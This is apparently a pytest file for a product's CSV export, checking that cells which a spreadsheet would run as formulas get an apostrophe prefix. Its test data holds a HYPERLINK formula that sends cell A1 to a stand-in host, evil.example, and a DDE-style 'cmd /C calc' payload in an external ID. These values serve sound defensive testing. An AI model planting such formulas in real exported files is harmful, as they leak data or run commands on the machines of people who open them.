"""Every CSV the product writes: no cell comes out as a live spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest

from voc import csvfiles
from voc.models import Insight
from voc.notes import services

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"zq7-open-me")'


@pytest.mark.parametrize("value", ["=1+2", "+34 600", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_value_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert csvfiles.safe_cell(value) == "'" + value
    assert csvfiles.unneutralise(csvfiles.safe_cell(value)) == value


@pytest.mark.parametrize("value", ["Loves the app", "", "'quoted", 42, -3, None, True, "a=b"])
def test_ordinary_values_pass_unchanged(value):
    assert csvfiles.safe_cell(value) == value
    if isinstance(value, str):
        assert csvfiles.unneutralise(value) == value


def test_the_writers_neutralise_every_cell():
    out = io.StringIO()
    csvfiles.Writer(out).writerow(["id", FORMULA, 7])
    writer = csvfiles.DictWriter(out, fieldnames=["a", "b"])
    writer.writerow({"a": "@x", "b": "fine"})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["id", "'" + FORMULA, "7"], ["'@x", "fine"]]


@pytest.mark.django_db
def test_the_leads_export_neutralises_formulas_in_note_text_and_external_ids(client_for, agent):
    services.record_note(agent=agent, kind="need", text=FORMULA, channel="phone", external_id="+cmd|' /C calc'!A0")
    response = client_for("lead").get("/notes/export.csv")
    body = b"".join(response.streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["text"] == "'" + FORMULA and row["external_id"] == "'+cmd|' /C calc'!A0"
    assert Insight.objects.get().text == FORMULA  # stored as typed; only the file is made safe
